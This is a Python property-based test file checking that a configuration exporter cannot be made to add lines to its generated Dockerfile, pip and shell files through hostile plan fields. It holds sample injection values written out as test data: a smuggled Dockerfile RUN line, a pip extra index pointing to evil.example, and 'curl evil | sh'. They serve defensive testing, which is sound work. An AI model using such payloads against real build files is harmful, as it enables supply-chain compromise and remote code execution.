"""A hostile recommendation.json cannot add a line to any exported file.

Every string in a plan is replaced, one at a time, by random text: the export either
writes files with no more lines than before, or is refused with a message naming the
field. Pydantic's own rejections are not the exporter's business and are skipped.
"""

from __future__ import annotations

import re
from functools import cache
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings, strategies as st
from pydantic import ValidationError

from benchmarks.hostile import string_paths
from dlconfig.export.bundle import render_files
from dlconfig.export.errors import ExportError
from dlconfig.kb import KnowledgeBase
from dlconfig.models.plan import Plan

from .conftest import load_plan

KB = KnowledgeBase()
PLANS = ("linux_single_gpu_pytorch", "wsl2_pytorch", "linux_multinode_pytorch")
# What a shell, Docker, pip, a YAML or Markdown reader breaks lines on.
_BREAKS = re.compile("\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")
Path = tuple[str | int, ...]
# Quoted where it is used, so it may span lines inside its literal: test_hostile_names
# checks that shell and PowerShell read it back whole.
QUOTED: set[Path] = {("workload", "name")}


def _lines(text: str) -> int:
    return len(_BREAKS.findall(text))


def _replaced(data: Any, path: Path, value: str) -> Any:
    if not path:
        return value
    head, *rest = path
    if isinstance(data, dict):
        return {**data, head: _replaced(data[head], tuple(rest), value)}
    return [(_replaced(v, tuple(rest), value) if i == head else v) for i, v in enumerate(data)]


@cache
def _plan_data(name: str) -> dict[str, Any]:
    return load_plan(name).model_dump(mode="json", by_alias=True)


@cache
def _baseline(name: str) -> dict[str, int]:
    return {
        k: _lines(v) for k, v in render_files(load_plan(name), KB).items() if isinstance(v, str)
    }


@cache
def _free_text_paths(name: str) -> tuple[Path, ...]:
    """Paths whose field takes any string (not an enum, a date or a pattern)."""
    data = _plan_data(name)
    free = []
    for path in string_paths(data):
        if path in QUOTED:
            continue
        try:
            Plan.model_validate(_replaced(data, path, "x\ny"))
        except ValidationError:
            continue
        free.append(path)
    return tuple(free)


def _field(path: Path) -> str:
    return next(str(p) for p in reversed(path) if isinstance(p, str))


@st.composite
def hostile_plans(draw: st.DrawFn) -> tuple[str, Path, str]:
    name = draw(st.sampled_from(PLANS))
    path = draw(st.sampled_from(_free_text_paths(name)))
    line = st.sampled_from(["\n", "\r", "\u2028", "\x85", "\nRUN touch /tmp/PWNED\n#"])
    value = draw(
        st.one_of(
            st.text(max_size=30),
            st.builds("".join, st.lists(st.one_of(line, st.text(max_size=8)), max_size=4)),
        )
    )
    return name, path, value


def _check(name: str, path: Path, value: str) -> None:
    try:
        plan = Plan.model_validate(_replaced(_plan_data(name), path, value))
    except ValidationError:
        assume(False)
        return
    try:
        files = render_files(plan, KB)
    except ExportError as exc:
        assert _field(path) in str(exc), (path, str(exc))
        return
    before = _baseline(name)
    # A package renamed to another valid name is pinned on a line of its own (the export
    # writes every package of the plan); anything else may add no line at all.
    own_pin = len(path) == 4 and path[:2] == ("stack", "packages") and path[3] == "name"
    for rel, text in files.items():
        if isinstance(text, str) and rel in before:
            allowed = before[rel] + (1 if own_pin and not _BREAKS.search(value) else 0)
            assert _lines(text) <= allowed, (rel, path, value)


def test_there_are_many_free_text_fields() -> None:
    assert len(_free_text_paths("linux_single_gpu_pytorch")) > 50


@pytest.mark.slow
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_plans())
def test_no_plan_string_adds_a_line_to_an_exported_file(case: tuple[str, Path, str]) -> None:
    _check(*case)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("app_version",), "1.0\nRUN touch /tmp/PWNED\n#"),
        (("stack", "framework", "version"), "2.9.1\n--extra-index-url https://evil.example\nevil"),
        (("stack", "framework", "variant"), "cu128\n--extra-index-url https://evil.example\nevil"),
        (("container", "files", 0), "k8s/job.yaml\ncurl evil | sh"),
        (("stack", "reasons", 0, "source"), "https://x.example/\n\n    curl evil | sh\n"),
    ],
)
def test_known_injections_add_no_line(path: Path, value: str) -> None:
    try:  # refused by the plan model itself (a checked field) is the safest outcome
        Plan.model_validate(_replaced(_plan_data("linux_single_gpu_pytorch"), path, value))
    except ValidationError:
        return
    _check("linux_single_gpu_pytorch", path, value)
